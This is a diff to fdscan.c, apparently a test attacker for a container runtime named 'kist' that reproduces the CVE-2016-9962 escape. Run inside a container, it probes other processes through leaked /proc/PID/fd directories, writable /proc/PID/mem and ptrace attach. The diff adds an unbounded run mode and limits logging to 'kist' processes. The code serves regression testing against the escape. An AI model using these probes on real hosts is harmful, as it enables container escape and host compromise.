@@ -1,8 +1,10 @@
 /* fdscan.c: fdscan SECONDS LOG: the CVE-2016-9962 attacker, run as a
- * container process.  For SECONDS it scans every other process of its pid
- * namespace and tries, through /proc/PID: to create a file in each directory
- * the process holds open (/proc/PID/fd/N/escaped), to open /proc/PID/mem for
- * writing and to ptrace it.  Each success is a line in LOG. */
+ * container process.  For SECONDS (0: until killed) it scans every other
+ * process of its pid namespace and tries, through /proc/PID: to create a
+ * file in each directory the process holds open (/proc/PID/fd/N/escaped), to
+ * open /proc/PID/mem for writing and to ptrace it.  Each success on a
+ * process that is kist (comm) is a line in LOG; the container's own
+ * processes are fair game and not logged. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <fcntl.h>
@@ -47,7 +49,7 @@ main (int argc, char **argv)
   time_t end = time (NULL) + seconds;
   pid_t self = getpid ();
   long rounds = 0;
-  while (time (NULL) < end)
+  while (seconds == 0 || time (NULL) < end)
     {
       DIR *d = opendir ("/proc");
       if (d == NULL)
@@ -69,6 +71,7 @@ main (int argc, char **argv)
                   fprintf (log, "ESCAPE %s %s\n", comm, path);
                   close (f);
                 }
+              /* (the file stays as evidence: the test looks for it) */
             }
           snprintf (path, sizeof path, "/proc/%d/mem", (int) p);
           int m = open (path, O_RDWR | O_CLOEXEC);
@@ -78,14 +81,16 @@ main (int argc, char **argv)
           if (m >= 0)
             {
               comm_of (p, after, sizeof after);
-              fprintf (log, "MEM %s %d\n", strcmp (comm, after) ? after : comm, (int) p);
+              if (strcmp (after, "kist") == 0)
+                fprintf (log, "MEM %s %d\n", after, (int) p);
               close (m);
             }
           if (ptrace (PTRACE_ATTACH, p, 0, 0) == 0)
             {
               waitpid (p, NULL, __WALL);
               comm_of (p, after, sizeof after);
-              fprintf (log, "PTRACE %s %d\n", after, (int) p);
+              if (strcmp (after, "kist") == 0)
+                fprintf (log, "PTRACE %s %d\n", after, (int) p);
               ptrace (PTRACE_DETACH, p, 0, 0);
             }
         }
